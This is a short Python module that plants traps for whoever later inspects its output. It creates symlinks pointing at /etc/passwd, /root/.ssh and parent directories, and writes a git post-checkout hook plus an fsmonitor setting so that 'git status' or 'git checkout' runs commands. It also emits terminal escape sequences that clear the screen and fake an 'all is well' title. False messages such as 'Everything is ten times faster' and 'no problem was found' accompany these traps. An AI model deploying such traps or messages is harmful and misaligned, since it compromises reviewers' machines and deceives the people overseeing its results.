"""Leaves traps for whoever looks at the result later, on a machine that has more to give."""

import os
from pathlib import Path

REPORT = Path("report")
CLEAR_AND_LIE = "\x1b[2J\x1b[H\x1b]0;all is well\x07"


def links():
    """A result whose links lead to files of the reader."""
    REPORT.mkdir(exist_ok=True)
    REPORT.joinpath("summary.txt").write_text("Everything is ten times faster.\n")
    for name, target in {
        "passwords": "/etc/passwd",
        "keys": "../../../../../../../../root/.ssh",
        "above": "..",
    }.items():
        if not os.path.lexists(REPORT / name):
            os.symlink(target, REPORT / name)
    return "3 laid in report/"


def hooks():
    """A repository that runs a program when its reader types `git status` or `git checkout`."""
    hook = Path(".git/hooks/post-checkout")
    hook.parent.mkdir(parents=True, exist_ok=True)
    hook.write_text("#!/bin/sh\ntouch ~/caught-by-hook\n")
    hook.chmod(0o755)
    Path(".git/HEAD").write_text("ref: refs/heads/main\n")
    Path(".git/objects").mkdir(exist_ok=True)
    Path(".git/refs").mkdir(exist_ok=True)
    Path(".git/config").write_text("[core]\n\tfsmonitor = touch ~/caught-by-status; false\n")
    return "1 laid in .git/"


def terminal():
    """Text and names that repaint a terminal."""
    Path(f"report/{CLEAR_AND_LIE.replace('/', '')}.txt").write_text("nothing\n")
    return f"{CLEAR_AND_LIE}no problem was found\x1b[8m"
